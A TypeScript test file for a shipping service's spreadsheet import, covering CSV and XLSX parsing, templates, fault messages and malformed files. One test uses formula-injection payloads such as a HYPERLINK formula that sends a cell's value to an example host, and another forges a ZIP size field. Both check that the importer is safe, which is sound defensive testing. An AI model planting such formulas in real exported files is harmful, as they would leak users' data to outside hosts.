import { buffer } from 'node:stream/consumers'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { type TableName, tableNames, tables } from '../../src/ingest/tables/columns.js'
import { readHeader } from '../../src/ingest/tables/header.js'
import { rejectedCsv } from '../../src/ingest/tables/import-table.js'
import { templateCsv, templateXlsx } from '../../src/ingest/tables/template.js'
import { rowsOf } from '../../src/ingest/tables/write.js'
import { openCsv } from '../../src/spreadsheet/csv-reader.js'
import { csvRow } from '../../src/spreadsheet/csv-row.js'
import { openXlsx } from '../../src/spreadsheet/xlsx-reader.js'
import { xlsxOf as writtenXlsx } from '../../src/spreadsheet/xlsx-writer.js'
import { newAccount } from '../support/account.js'
import { startService } from '../support/service.js'
import { spreadsheetsPage } from '../support/spreadsheets-page.js'
import { anyRecord, csvBytes, importCsv, importSheets, readAll, xlsxOf } from '../support/tables.js'

const service = await startService()

test('docs/spreadsheets.md lists the columns as they are', async () => {
  await expect(spreadsheetsPage()).toMatchFileSnapshot('../../docs/spreadsheets.md')
})

test('every field has one column, but for those that are derived', () => {
  for (const { columns } of Object.values(tables)) {
    const names = columns.map(({ name }) => name)
    expect(new Set(names).size).toBe(names.length)
  }
  const names = tables.shipments.columns.map(({ name }) => name)
  expect(names).toContain('cargo.total_weight.unit')
  expect(names).toContain('containers.purchase_order_references')
  for (const derived of ['purchase_order_references', 'invoice_status', 'invoice_references']) {
    expect(names).not.toContain(derived)
  }
  expect(names.filter((name) => name.startsWith('main_tracking_dates'))).toEqual([])
})

const lists = {
  shipments: 'listShipments',
  locations: 'listLocations',
  invoices: 'listInvoices',
  purchase_orders: 'listPurchaseOrders',
} as const satisfies Record<TableName, string>

test.each(tableNames)('the template of %s can be imported as it is, as CSV and as XLSX', async (table) => {
  const { slug: account, call } = await newAccount(service)
  const csv = await importCsv(service, templateCsv(table), { table, account })
  expect(csv.faults).toEqual([])
  expect(csv.outcome).toMatchObject({ kept: true, hasBadHeader: false, summary: { lines: 1, rejected: 0 } })
  const xlsx = await importSheets(service, await openXlsx(await templateXlsx(table)), { table, account })
  expect(xlsx.faults).toEqual([])
  expect(xlsx.outcome.summary.kinds[tables[table].kind]).toEqual({ created: 0, updated: 0, unchanged: 1 })
  expect((await call(lists[table])).body).toHaveLength(1)
})

test.each(tableNames)('no cell of the template of %s could become a formula', async (table) => {
  const rows: unknown[][] = []
  for (const { header, rows: below } of await openCsv(csvBytes(templateCsv(table)))) {
    rows.push(header)
    for await (const { cells } of below) rows.push(cells)
  }
  expect(rows).toHaveLength(2)
  expect(rows.flat().filter((cell) => /^[=+\-@]/.test(String(cell)))).toEqual([])
})

const withoutColumn: Partial<Record<TableName, string[]>> = {
  shipments: ['purchase_order_references', 'main_tracking_dates', 'invoice_status', 'invoice_references'],
  purchase_orders: ['product_lines.product.custom_parameters'],
}
const marks = fc.constantFrom('"', ',', ';', '\n', "'", '=', '0', '<', '&', 'é', '海', '🚢')
const anyText = textOf(fc.oneof(marks, fc.string({ unit: 'grapheme' })))

function textOf(unit: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc
    .string({ unit, maxLength: 8 })
    .map((text) => text.trim())
    .filter((text) => text !== '')
}

const anyNumber = fc.double({ noNaN: true, noDefaultInfinity: true }).map((number) => number + 0)

function anyRecords(table: TableName, number: fc.Arbitrary<number>, text: fc.Arbitrary<string>) {
  const { schema, identifier } = tables[table]
  const leftOut = withoutColumn[table] ?? []
  return fc.uniqueArray(anyRecord(schema, { number, text, leftOut }), {
    minLength: 1,
    maxLength: 4,
    selector: (record) => String(record[identifier.name]),
  })
}

test.each(tableNames)('any %s written as rows of CSV are read back as they were', async (table) => {
  const header = tables[table].columns.map(({ name }) => name)
  await fc.assert(
    fc.asyncProperty(anyRecords(table, anyNumber, anyText), async (records) => {
      const rows = records.flatMap((record) => rowsOf(tables[table], record))
      const text = [header, ...rows].map(csvRow).join('')
      expect(await readAll(table, await openCsv(csvBytes(text, 1000)))).toEqual({ records, faults: [] })
    }),
    { numRuns: 60 },
  )
})

test.each(tableNames)('any %s written as rows of XLSX are read back as they were', async (table) => {
  const header = tables[table].columns.map(({ name }) => name)
  const fifteenDigits = anyNumber.map((number) => Number(number.toPrecision(15))).filter(Number.isFinite)
  await fc.assert(
    fc.asyncProperty(anyRecords(table, fifteenDigits, anyText), async (records) => {
      const rows = records.flatMap((record) => rowsOf(tables[table], record))
      const file = await buffer(writtenXlsx({ name: table, header, rows: [rows] }))
      expect(await readAll(table, await openXlsx(file))).toEqual({
        records,
        faults: [],
      })
    }),
    { numRuns: 15 },
  )
})

test('rows with the identifier of the row before, or none, add to the lists of its record', async () => {
  const { slug: account, call } = await newAccount(service)
  const { faults, outcome } = await importCsv(
    service,
    `SVC_shipment_id , status,containers.container_number,loads.count,containers.purchase_order_references
S-1,In progress,CSQU3054383,2,A-1; A-2
S-1,in_progress,TEMU1234565,,
,,,7,

S-2,BOOKED,,,
`,
    { table: 'shipments', account },
  )
  expect(faults).toEqual([])
  expect(outcome.summary).toMatchObject({ lines: 2, kinds: { shipment: { created: 2 } } })
  const { body } = await call('getShipment', { params: { svc_shipment_id: 'S-1' } })
  expect(body.status).toBe('in_progress')
  expect(body.cargo?.containers).toEqual([
    { container_number: 'CSQU3054383', purchase_order_references: ['A-1', 'A-2'] },
    { container_number: 'TEMU1234565' },
  ])
  expect(body.cargo?.loads).toEqual([{ count: 2 }, { count: 7 }])
  expect((await call('getShipment', { params: { svc_shipment_id: 'S-2' } })).body.status).toBe('booked')
})

test('semicolons, CRLF, a byte order mark and quoted line breaks are read', async () => {
  const text = '\uFEFFid;name;"address"\r\n1;Müller;"12, Quay\r\n""North"""\r\n2;;x\r\n'
  const read = await readAll('locations', await openCsv(csvBytes(text, 1)))
  expect(read.faults).toEqual([])
  expect(read.records).toEqual([
    { id: 1, name: 'Müller', address: '12, Quay\r\n"North"' },
    { id: 2, address: 'x' },
  ])
})

test.each([
  ['tabs', '\t', 'id\tname\taddress'],
  ['tabs, in quotes', '\t', '"id"\t"name"\t"address"'],
  ['semicolons, in quotes', ';', '"id";"name";"address"'],
  ['semicolons and more commas in quotes', ';', '"id";"name";"address";",,,"'],
  ['commas', ',', 'id,name,address'],
])('a table separated by %s is recognised by its header', async (_, separator, header) => {
  const row = ['1', 'a,b;c\td', 'Quay'].map((text) => `"${text}"`).join(separator)
  const read = await readAll('locations', await openCsv(csvBytes(`${header}\n${row}\n`, 3)))
  expect(read.records).toEqual([{ id: 1, name: 'a,b;c\td', address: 'Quay' }])
})

const misspelled: [table: TableName, written: string, meant: string | undefined][] = [
  ['purchase_orders', 'Refrence', 'reference'],
  ['purchase_orders', 'supplier_i', 'supplier_id'],
  ['purchase_orders', 'Ordered quantityy', 'product_lines.ordered_quantity'],
  ['locations', 'emial', 'contacts.email'],
  ['shipments', 'carier', 'booking_information.carrier'],
  ['shipments', 'container-numbr', 'containers.container_number'],
  // There are several of them, or none that is close.
  ['shipments', 'unit', undefined],
  ['purchase_orders', 'Colour', undefined],
  ['purchase_orders', 'x'.repeat(5000), undefined],
]

test.each(misspelled)('the unknown column of %s called %s is answered with %s', (name, written, meant) => {
  const { faults } = readHeader(tables[name], { name: undefined, header: [written], rows: [] })
  const help = meant === undefined ? 'the template has all columns' : `did you mean \`${meant}\`?`
  expect(faults[0]?.detail).toBe(`is not a column of ${name}; ${help}`)
})

test('codes keep their leading zeros, and what a spreadsheet made a number is what it shows', async () => {
  const csv = await readAll('locations', await openCsv(csvBytes('id,name,zip_code\n007,0815,02110\n8,1e5,75001\n')))
  expect(csv.records).toEqual([
    { id: 7, name: '0815', zip_code: '02110' },
    { id: 8, name: '1e5', zip_code: 75001 },
  ])
  const file = await xlsxOf([
    {
      sheet: 'Sheet1',
      data: [
        ['svc_shipment_id', 'containers.seal_number', 'cargo.total_weight.value', 'cargo.total_weight.unit'],
        [4711, 123456789012345, 3.3000000000000003, 'KG'],
      ],
    },
  ])
  expect(await readAll('shipments', await openXlsx(file))).toEqual({
    records: [
      {
        svc_shipment_id: '4711',
        cargo: { total_weight: { value: 3.3, unit: 'kg' }, containers: [{ seal_number: '123456789012345' }] },
      },
    ],
    faults: [],
  })
})

test('every bad cell is named by row and column, and nothing is kept', async () => {
  const { slug: account, call } = await newAccount(service)
  const { faults, outcome } = await importCsv(
    service,
    `reference,lines.price.amount,lines.price.currency,due_date,sent_date,svc_shipment_id,status
I-1,"1,234",eur,2026-02-30,2026-03-04T10:00:00,,
I-1,"1,23,4",EUR,,,,
I-2,12,,,,,payed
I-3,1,EUR,,,NONE,new
I-4,2,EUR,,,,paid,more
I-5,abc,EUR,2026-03-01,,,
I-5,3,EUR,2026-03-02,,,
I-6,1,EUR,,,,new
`,
    { table: 'invoices', account },
  )
  const number = 'must be a number written like 1234.5: a point before the decimals, and nothing between the thousands'
  const statuses = 'available, due, in_modification, litigious, new, paid, partially_paid, write_off'
  expect(faults).toEqual([
    `row 2, column B (lines.price.amount): ${number}`,
    'row 2, column D (due_date): must be an existing date in the format YYYY-MM-DD',
    'row 2, column E (sent_date): must be a date and time with UTC offset (RFC 3339), such as 2026-03-04T10:00:00+08:00',
    `row 3, column B (lines.price.amount): ${number}`,
    `row 4, column G (status): must be one of: ${statuses}`,
    'row 6, column H: has a value, but its column has no name in row 1',
    'row 7, column B (lines.price.amount): must be a number',
    'row 8, column D (due_date): differs from row 7 of the same record',
    'row 5, column F (svc_shipment_id): the account has no such shipment',
  ])
  expect(outcome).toMatchObject({ kept: false, summary: { lines: 6, rejected: 5 } })
  expect((await call('listInvoices')).body).toEqual([])
})

test('what is missing as a whole is a fault of its first column', async () => {
  const { slug: account } = await newAccount(service)
  const { faults } = await importCsv(
    service,
    'reference,product_lines.ordered_quantity,supplier_id\nP-1,,A\nP-2,3,\n',
    {
      table: 'purchase_orders',
      account,
    },
  )
  expect(faults).toEqual([
    'row 2, column B (product_lines.ordered_quantity): is required',
    'row 3 (product_lines.product.sku): is required',
  ])
})

test('two lines of an order with the same reference are a fault of the second one', async () => {
  const { slug: account, call } = await newAccount(service)
  const header = 'reference,product_lines.reference,product_lines.product.sku,product_lines.ordered_quantity'
  const { faults } = await importCsv(service, `${header}\nP-1,1,A,1\nP-1,2,B,1\nP-1,1,C,1\n`, {
    table: 'purchase_orders',
    account,
  })
  expect(faults).toEqual([
    'row 4, column B (product_lines.reference): must differ from the references of the other lines',
  ])
  expect((await call('listPurchaseOrders')).body).toEqual([])
})

test('--skip-invalid keeps the good records, and only whole ones', async () => {
  const { slug: account, call } = await newAccount(service)
  const { outcome } = await importCsv(service, 'id,contacts.name,requires_appointment\n1,A,yes\n1,B,maybe\n2,C,NO\n', {
    table: 'locations',
    account,
    skipInvalid: true,
  })
  expect(outcome.kept).toBe(true)
  expect((await call('listLocations')).body).toEqual([
    { id: 2, contacts: [{ name: 'C' }], requires_appointment: false },
  ])
})

test('a text of a workbook does not become a formula of the rejected rows, and is read back from them as it was', async () => {
  const cities = ['=HYPERLINK("https://x.example/"&A1)', '-2+3', "'=4", 'a;@SUM(A1)', '-12.5']
  const data = [['id', 'city'], ...cities.map((city) => ['bad', city])]
  const sheets = await openXlsx(await xlsxOf([{ sheet: 'One', data }]))
  let csv = ''
  for await (const text of rejectedCsv('locations', sheets, new Set([1, 2]))) csv += text
  expect(csv).toContain(',"\'=HYPERLINK(""https://x.example/""&A1)",')
  expect(csv).not.toMatch(/[,;"\n](?!-12\.5,)[=+@-]/)
  const [table] = await openCsv(csvBytes(csv))
  const read: unknown[] = []
  for await (const { cells } of table?.rows ?? []) read.push(cells[4])
  expect(read).toEqual(cities)
})

test('a record whose rows are apart is a fault: its first rows would be lost', async () => {
  const { slug: account } = await newAccount(service)
  const { faults, outcome } = await importCsv(service, 'id,contacts.name\n1,A\n2,B\n1,C\n', {
    table: 'locations',
    account,
  })
  expect(faults).toEqual(['row 4, column A (id): is already in row 2: the rows of one record must follow each other'])
  expect(outcome.kept).toBe(false)
})

// Bad by its cell, by a rule for the whole record, and by a reference that is checked when everything is read.
const badFirsts: [why: string, table: TableName, rows: string, fault: string][] = [
  [
    'a cell that cannot be read',
    'locations',
    'id,name,requires_appointment\n1,First,maybe\n2,Other,\n1,Second,yes\n',
    'row 2, column C (requires_appointment): must be true or false (or yes or no)',
  ],
  ['a rule of the record', 'invoices', 'reference,number,status\n1,INV-2026-99999999,new\n2,,new\n1,,new\n', 'row 2'],
  [
    'an unknown shipment',
    'invoices',
    'reference,svc_shipment_id\n1,NONE\n2,\n1,\n',
    'row 2, column B (svc_shipment_id): the account has no such shipment',
  ],
]

test.each(badFirsts)(
  'a record that occurs again is reported, and stored from neither place, when its first place is bad for %s',
  async (_, table, rows, fault) => {
    const { slug: account, call } = await newAccount(service)
    const checked = await importCsv(service, rows, { table, account })
    const { name } = tables[table].identifier
    const repeated = `row 4, column A (${name}): is already in row 2: the rows of one record must follow each other`
    expect(checked.faults.toSorted()).toEqual([expect.stringContaining(fault), repeated])
    expect(checked.outcome.kept).toBe(false)

    const { outcome } = await importCsv(service, rows, { table, account, skipInvalid: true })
    expect(outcome).toMatchObject({ kept: true, summary: { lines: 3, rejected: 2 } })
    expect(outcome.rejectedLines).toEqual(new Set([2, 4]))
    const stored = (await call(lists[table])).body as Record<string, unknown>[]
    expect(stored.map((record) => String(record[name]))).toEqual(['2'])
  },
)

test('of a record that occurs again the good first occurrence is kept by --skip-invalid, and a bad second has both faults', async () => {
  const { slug: account, call } = await newAccount(service)
  const rows = 'id,name,requires_appointment\n1,First,yes\n2,Other,\n1,Second,maybe\n'
  const { faults, outcome } = await importCsv(service, rows, { table: 'locations', account, skipInvalid: true })
  expect(faults).toEqual([
    'row 4, column A (id): is already in row 2: the rows of one record must follow each other',
    'row 4, column C (requires_appointment): must be true or false (or yes or no)',
  ])
  expect([...outcome.rejectedLines]).toEqual([4])
  expect((await call('listLocations')).body).toEqual([
    { id: 1, name: 'First', requires_appointment: true },
    { id: 2, name: 'Other' },
  ])
})

test('unknown, doubled and missing columns are faults of row 1, reported with those of the rows; nothing is kept', async () => {
  const { slug: account, call } = await newAccount(service)
  const options = { table: 'locations', account, skipInvalid: true } as const
  const { faults, outcome } = await importCsv(service, 'id,nam,city,CITY\n1,A,B,\nx,,,\n', options)
  expect(faults).toEqual([
    'row 1, column B (nam): is not a column of locations; did you mean `name`?',
    'row 1, column D (CITY): is the name of column C already',
    'row 3, column A (id): must be a number',
  ])
  expect(outcome).toMatchObject({ kept: false, hasBadHeader: true })
  const missing = await importCsv(service, 'name\nA\n', options)
  expect(missing.faults).toEqual(['row 1 (id): is required, and not in the header'])
  expect((await call('listLocations')).body).toEqual([])
})

test('all sheets of a workbook are read whose columns are known; faults name the sheet', async () => {
  const { slug: account, call } = await newAccount(service)
  const file = await xlsxOf([
    { sheet: 'Read me', data: [['Fill in the other sheets']] },
    { sheet: 'North', data: [['id', 'name'], [1, 'A'], [], [2, 'B']] },
    {
      sheet: 'South',
      data: [
        ['name', 'id'],
        ['C', 3],
        ['D', 1],
        ['E', 4.5],
      ],
    },
  ])
  const refused = await importSheets(service, await openXlsx(file), { table: 'locations', account })
  expect(refused.faults).toEqual([
    'South, row 3, column B (id): is already in North, row 2: the rows of one record must follow each other',
    'South, row 4, column B (id): must be an integer',
  ])
  expect(refused.outcome.unreadSheets).toEqual(['Read me'])
  await importSheets(service, await openXlsx(file), { table: 'locations', account, skipInvalid: true })
  expect((await call('listLocations')).body).toEqual([
    { id: 1, name: 'A' },
    { id: 2, name: 'B' },
    { id: 3, name: 'C' },
  ])
})

test('formulas count by the value that was computed; dates are dates, and errors are faults', async () => {
  const day = { value: new Date('2026-03-04T00:00:00Z'), format: 'dd/mm/yyyy' }
  const hour = { value: new Date('2026-03-04T10:20:00Z'), format: 'dd/mm/yyyy hh:mm' }
  const file = await xlsxOf(
    [
      {
        sheet: 'Sheet1',
        data: [
          [
            'svc_shipment_id',
            'cargo.total_teus',
            'cargo_ready_date',
            'created_at',
            'name',
            'needs_ad_valorem_insurance',
          ],
          ['S-1', 1, day, '2026-03-04T10:00:00Z', 'x', true],
          ['S-2', 2, hour, hour, day, 1],
          ['S-3', 3, 46085, null, 1e20, null],
        ],
      },
    ],
    (xml) =>
      xml
        .replace('<c r="B2"><v>1</v></c>', '<c r="B2"><f>1+1</f><v>2</v></c>')
        .replace('<c r="B3"><v>2</v></c>', '<c r="B3" t="e"><f>1/0</f><v>#DIV/0!</v></c>')
        .replace('<c r="B4"><v>3</v></c>', '<c r="B4"><f>A1</f></c>'),
  )
  const { records, faults } = await readAll('shipments', await openXlsx(file))
  expect(records[0]).toEqual({
    svc_shipment_id: 'S-1',
    name: 'x',
    created_at: '2026-03-04T10:00:00Z',
    cargo_ready_date: '2026-03-04',
    cargo: { total_teus: 2 },
    needs_ad_valorem_insurance: true,
  })
  expect(faults).toEqual([
    'Sheet1, row 3, column B (cargo.total_teus): holds #DIV/0!, not a value',
    'Sheet1, row 3, column C (cargo_ready_date): must be a date without a time of day',
    'Sheet1, row 3, column D (created_at): has no UTC offset, as dates of spreadsheets never do: write it as text, such as 2026-03-04T10:20:00+08:00',
    'Sheet1, row 3, column E (name): was made a date by the spreadsheet: format the cell as text, and write it again',
    'Sheet1, row 3, column F (needs_ad_valorem_insurance): must be true or false (or yes or no)',
    'Sheet1, row 4, column B (cargo.total_teus): holds a formula that was never computed, not a value',
    'Sheet1, row 4, column C (cargo_ready_date): must be an existing date in the format YYYY-MM-DD',
    'Sheet1, row 4, column E (name): was made a number by the spreadsheet and lost digits: format the cell as text, and write it again',
  ])
})

test('a file that is no table says why', async () => {
  const good = await xlsxOf([{ sheet: 'Sheet1', data: [['id'], [1]] }])
  const far = await xlsxOf([{ sheet: 'Sheet1', data: [['id'], [1]] }], (xml) => xml.replace('"A2"', '"XFD1048576"'))
  await expect(openXlsx(Buffer.from('id,name\n1,A\n'))).rejects.toThrow('is not an XLSX file')
  await expect(openXlsx(Buffer.alloc(0))).rejects.toThrow('is empty')
  await expect(openXlsx(await xlsxOf([{ sheet: 'Sheet1', data: [] }]))).rejects.toThrow('is empty')
  await expect(openXlsx(good.subarray(0, good.length - 40))).rejects.toThrow('is not an XLSX file')
  await expect(openXlsx(far)).rejects.toThrow('reaches to XFD1048576, which is too far')
  await expect(openXlsx(claiming(good, 0xf000_0000))).rejects.toThrow('holds more than 128 MiB')
  await expect(openXlsx(claiming(good, 10))).rejects.toThrow('is a damaged XLSX file')
  await expect(openCsv(csvBytes(''))).rejects.toThrow('is empty')
  await expect(openCsv(csvBytes(Buffer.from('id,näme\n', 'latin1')))).rejects.toThrow('is not UTF-8')
  const unclosed = async () => readAll('locations', await openCsv(csvBytes('id,name\n1,"A\n2,B\n')))
  await expect(unclosed()).rejects.toThrow('is not valid CSV: Quote Not Closed')
})

/** The archive, with another size of what its first file unpacks to. */
function claiming(archive: Buffer, size: number): Buffer {
  const bytes = Buffer.from(archive)
  bytes.writeUInt32LE(size, bytes.indexOf(Buffer.from('PK\u0001\u0002', 'latin1')) + 24)
  return bytes
}
